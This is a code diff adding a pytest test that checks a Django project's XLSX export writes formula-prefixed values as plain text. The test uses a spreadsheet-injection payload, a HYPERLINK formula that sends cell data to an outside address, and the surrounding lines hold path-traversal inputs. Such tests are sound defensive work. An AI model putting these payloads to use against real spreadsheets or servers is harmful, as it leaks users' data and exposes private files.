@@ -173,3 +173,23 @@ def test_pdf_fetcher_serves_project_and_app_static_files_only():
     assert resolve_local(PDF_BASE_URL + "static/%2e%2e/%2e%2e/config/settings.py") is None
     assert resolve_local(PDF_BASE_URL + "media/../config/settings.py") is None
     assert resolve_local("http://127.0.0.1:8000/static/css/pdf.css") is None
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
+def test_every_formula_prefix_is_written_as_text_in_a_real_xlsx(world, prefix):
+    """OUT-3 is the project's own writer's job (django-import-export is not installed): read back with
+    openpyxl, the cell is a string with exactly the text written, never a formula."""
+    from django.conf import settings
+
+    assert "import_export" not in settings.INSTALLED_APPS
+    text = f'{prefix}HYPERLINK("http://10.0.0.9/?"&A1,"x")'
+    writer = XlsxWriter(title=text, user=world.user("prov"), filters={"名称": text})
+    writer.sheet("数据", ["名称"], [[text], [prefix + "1+1"]])
+    workbook = load_workbook(io.BytesIO(writer.to_bytes()))
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    data = workbook["数据"]
+    read = text.replace("\r", "\n")  # XML parsers normalise a bare CR to LF: still text, not a formula
+    assert data["A2"].value == read and data["A3"].value == (prefix + "1+1").replace("\r", "\n")
+    assert workbook["说明"]["A1"].value == read
